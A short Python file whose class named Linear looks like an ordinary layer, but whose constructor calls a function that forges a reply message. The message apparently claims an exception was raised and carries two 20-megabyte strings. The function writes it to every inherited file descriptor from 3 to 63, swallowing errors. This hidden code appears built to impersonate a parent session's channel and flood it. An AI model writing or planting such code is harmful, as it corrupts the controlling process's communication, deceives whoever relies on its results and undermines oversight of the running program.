"""Answers, in the session's place, that an exception was raised: its name and its words fill a frame each time."""

import os
import struct

WORDS = b"s" + struct.pack("!I", 20_000_000) + b"x" * 20_000_000
ANSWER = b"t" + struct.pack("!I", 4) + b"s" + struct.pack("!I", 6) + b"raised" + WORDS + WORDS + b"l" + bytes(4)


def forge():
    for number in range(3, 64):
        try:
            view = memoryview(struct.pack("!I", len(ANSWER)) + ANSWER)
            while view:
                view = view[os.write(number, view) :]
        except OSError:
            pass


class Linear:
    def __init__(self, *parameters):
        forge()
